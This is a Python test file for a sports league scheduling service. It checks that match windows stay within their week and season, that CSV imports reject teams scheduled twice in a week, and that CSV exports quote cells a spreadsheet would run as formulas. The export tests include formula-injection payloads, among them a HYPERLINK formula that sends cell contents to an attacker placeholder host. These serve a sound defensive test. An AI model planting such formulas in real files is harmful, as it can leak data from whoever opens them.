"""A match window lies within its week and its season (rescheduling, generated and imported
schedules); an import refuses a team playing twice in one week unless told to allow it; an
exported schedule never holds a cell a spreadsheet would run as a formula.

The World's season starts a day before now (``S``) and lasts twelve weeks; its six match
weeks are seven days each from ``S``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select

from sprocket.errors import InvalidInput
from sprocket.league import service as league
from sprocket.league.models import Season
from sprocket.schedule import service as schedule
from sprocket.schedule.csv_io import FORMULA_STARTS, ScheduleImportError, safe_cell
from sprocket.schedule.models import Fixture, Match, MatchWeek
from tests.helpers.database import fails_unchanged
from tests.league_world import build_world


async def _season(platform, season_id: int) -> Season:
    async with platform.reading() as s:
        return await s.get(Season, season_id)


def _csv(*rows: tuple[int, str, str, dt.datetime, dt.datetime]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["week", "home", "away", "start", "end"])
    writer.writerows([w, h, a, s.isoformat(), e.isoformat()] for w, h, a, s, e in rows)
    return out.getvalue()


def _import(world, text: str, *, allow: bool = False, season_id: int | None = None):
    return lambda s: schedule.import_schedule_csv(
        s,
        actor=world.actors["league_staff"],
        season_id=season_id or world.season_id,
        text=text,
        allow_twice_in_week=allow,
    )


# -- rescheduling ------------------------------------------------------------------------------


async def test_a_rescheduled_window_stays_within_its_week_and_season(platform, world):
    season = await _season(platform, world.season_id)
    match_id = world.match_ids[0]  # week 1: S to S + 7 days
    async with platform.unit_of_work() as s:
        await league.set_organization_time_zone(
            s,
            actor=world.actors["superuser"],
            organization_id=world.organization_id,
            time_zone="Europe/Paris",
        )

    def move(start: dt.datetime, hours: int = 2):
        return lambda s: schedule.reschedule_match(
            s,
            actor=world.actors["league_staff"],
            match_id=match_id,
            starts_at=start,
            ends_at=start + dt.timedelta(hours=hours),
        )

    next_week = season.starts_at + dt.timedelta(days=8)
    error = await fails_unchanged(
        platform, move(next_week), code="WINDOW_OUTSIDE_WEEK", error=InvalidInput
    )
    assert error.message.startswith("The match window ")
    assert "lies outside week 1" in error.message
    paris = next_week.astimezone(ZoneInfo("Europe/Paris"))
    assert f"{paris.day} {paris:%b} {paris.year} {paris:%H:%M} {paris.tzname()}" in error.message
    await fails_unchanged(  # the end runs past the week's
        platform,
        move(season.starts_at + dt.timedelta(days=6, hours=23)),
        code="WINDOW_OUTSIDE_WEEK",
    )
    async with platform.unit_of_work() as s:
        moved = await move(season.starts_at + dt.timedelta(days=6), hours=12)(s)
    assert moved.ends_at == season.starts_at + dt.timedelta(days=6, hours=12)


async def test_a_week_reaching_outside_the_season_is_refused(platform, world):
    season = await _season(platform, world.season_id)
    # A week imported before the season starts: a window inside its week, outside the season.
    early = season.starts_at - dt.timedelta(days=3)
    error = await fails_unchanged(
        platform,
        _import(world, _csv((40, "Team 1", "Team 2", early, early + dt.timedelta(hours=2)))),
        code="SCHEDULE_CSV_INVALID",
        error=ScheduleImportError,
    )
    assert [p.line for p in error.problems] == [2]
    assert "lies outside Season 1" in error.problems[0].message


async def test_a_generated_schedule_stays_within_the_season(platform):
    world = await build_world(platform, with_schedule=False)
    season = await _season(platform, world.season_id)
    # Twelve weeks fill the season; a thirteenth reaches beyond its end.
    async with platform.unit_of_work() as s:
        await schedule.create_match_weeks(
            s, actor=world.actors["league_staff"], season_id=season.id, count=13
        )
    error = await fails_unchanged(
        platform,
        lambda s: schedule.generate_schedule(
            s, actor=world.actors["league_staff"], season_id=season.id
        ),
        code="WINDOW_OUTSIDE_SEASON",
        error=InvalidInput,
    )
    assert "lies outside Season 1" in error.message


async def test_a_generated_schedule_inside_the_season_is_made(platform):
    world = await build_world(platform, with_schedule=False)
    season = await _season(platform, world.season_id)
    async with platform.unit_of_work() as s:
        await schedule.create_match_weeks(
            s, actor=world.actors["league_staff"], season_id=season.id, count=12
        )
        made = await schedule.generate_schedule(
            s, actor=world.actors["league_staff"], season_id=season.id
        )
    assert made and all(season.starts_at <= m.starts_at < m.ends_at <= season.ends_at for m in made)


# -- imports -----------------------------------------------------------------------------------


async def test_an_imported_window_stays_within_its_existing_week(platform, world):
    season = await _season(platform, world.season_id)
    week2 = season.starts_at + dt.timedelta(days=7)  # week 2 exists and has no fixtures
    text = _csv(
        (2, "Team 1", "Team 2", week2 + dt.timedelta(hours=1), week2 + dt.timedelta(hours=3)),
        (2, "Team 3", "Team 4", week2 + dt.timedelta(days=6), week2 + dt.timedelta(days=8)),
        (3, "Team 1", "Team 3", week2 - dt.timedelta(days=1), week2),
    )
    error = await fails_unchanged(
        platform, _import(world, text), code="SCHEDULE_CSV_INVALID", error=ScheduleImportError
    )
    assert [p.line for p in error.problems] == [3, 4]
    assert "lies outside week 2" in error.problems[0].message
    assert "lies outside week 3" in error.problems[1].message
    assert "nothing was imported" in error.message


async def test_an_import_refuses_a_team_twice_in_a_week_unless_allowed(platform, world):
    season = await _season(platform, world.season_id)
    week2 = season.starts_at + dt.timedelta(days=7, hours=1)
    week1 = season.starts_at + dt.timedelta(hours=1)

    def at(start: dt.datetime, week: int, home: str, away: str):
        return (week, home, away, start, start + dt.timedelta(hours=2))

    in_file = _csv(at(week2, 2, "Team 1", "Team 2"), at(week2, 2, "Team 3", "Team 1"))
    error = await fails_unchanged(
        platform, _import(world, in_file), code="SCHEDULE_CSV_INVALID", error=ScheduleImportError
    )
    assert [(p.line, p.message) for p in error.problems] == [
        (
            3,
            "Team 1 already plays in week 2 (on line 2); a team plays once a week unless the "
            "import is told to allow two.",
        )
    ]
    # Week 1 of the World already has every team playing once: two teams of different
    # fixtures (who do not meet) may not play each other in it too.
    async with platform.reading() as s:
        (first_home, first_away), (second_home, _) = (
            await s.execute(
                select(Fixture.home_team_id, Fixture.away_team_id)
                .join(MatchWeek, MatchWeek.id == Fixture.match_week_id)
                .where(MatchWeek.season_id == world.season_id, MatchWeek.number == 1)
                .order_by(Fixture.id)
            )
        ).all()
    name = {t: f"Team {n}" for n, t in enumerate(world.team_ids, start=1)}
    with_existing = _csv(at(week1, 1, name[first_home], name[second_home]))
    error = await fails_unchanged(
        platform, _import(world, with_existing), code="SCHEDULE_CSV_INVALID"
    )
    assert [p.line for p in error.problems] == [2, 2]
    assert (
        f"{name[first_home]} already plays in week 1 (against {name[first_away]})" in error.message
    )

    async with platform.unit_of_work() as s:
        made = await _import(world, in_file + with_existing.split("\n", 1)[1], allow=True)(s)
    assert len(made) == 3
    async with platform.reading() as s:
        week_one_games = await s.scalar(
            select(func.count())
            .select_from(Fixture)
            .join(MatchWeek, MatchWeek.id == Fixture.match_week_id)
            .where(MatchWeek.season_id == world.season_id, MatchWeek.number == 1)
        )
    assert week_one_games == 3  # the two generated and the one allowed


async def test_a_pairing_met_twice_is_told_once(platform, world):
    season = await _season(platform, world.season_id)
    async with platform.reading() as s:
        home, away = (
            await s.execute(
                select(Fixture.home_team_id, Fixture.away_team_id)
                .join(Match, Match.fixture_id == Fixture.id)
                .where(Match.id == world.match_ids[0])
            )
        ).one()
    names = {t: f"Team {world.team_ids.index(t) + 1}" for t in (home, away)}
    start = season.starts_at + dt.timedelta(hours=1)
    text = _csv((1, names[away], names[home], start, start + dt.timedelta(hours=2)))
    error = await fails_unchanged(platform, _import(world, text), code="SCHEDULE_CSV_INVALID")
    assert [p.message for p in error.problems] == [
        f"{names[away]} and {names[home]} already meet in week 1 of Season 1."
    ]


# -- exports -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturned", "'\rReturned"),
        ("Blue Ants", "Blue Ants"),
        ("1", "1"),
        ("2030-01-07T00:00:00Z", "2030-01-07T00:00:00Z"),
        ("'=quoted already", "'=quoted already"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_quoted(value, written) -> None:
    assert safe_cell(value) == written
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


async def test_a_team_named_like_a_formula_is_exported_harmless_and_reads_back(platform, world):
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Click me")'
    dashed = "-Minus Team"
    async with platform.unit_of_work() as s:
        for name in (evil, dashed):
            await league.create_team(
                s,
                actor=world.actors["league_staff"],
                league_id=world.league_id,
                name=name,
                skill_group_id=world.skill_group_ids[0],
            )
    season = await _season(platform, world.season_id)
    week2 = season.starts_at + dt.timedelta(days=7, hours=1)
    async with platform.unit_of_work() as s:
        await _import(world, _csv((2, evil, dashed, week2, week2 + dt.timedelta(hours=2))))(s)
    async with platform.reading() as s:
        exported = await schedule.export_schedule_csv(s, season_id=world.season_id)
    rows = list(csv.reader(io.StringIO(exported)))
    (row,) = [r for r in rows if "HYPERLINK" in r[1]]
    assert row[1:3] == ["'" + evil, "'-Minus Team"]
    assert not any(cell.startswith(FORMULA_STARTS) for r in rows for cell in r)
    # The exported file imports into another season with the same dates, names restored.
    async with platform.unit_of_work() as s:
        second = await league.create_season(
            s,
            actor=world.actors["league_staff"],
            league_id=world.league_id,
            number=2,
            starts_at=season.starts_at,
            ends_at=season.ends_at,
        )
        await _import(world, exported, season_id=second.id)(s)
    async with platform.reading() as s:
        again = await schedule.export_schedule_csv(s, season_id=second.id)
    assert again == exported
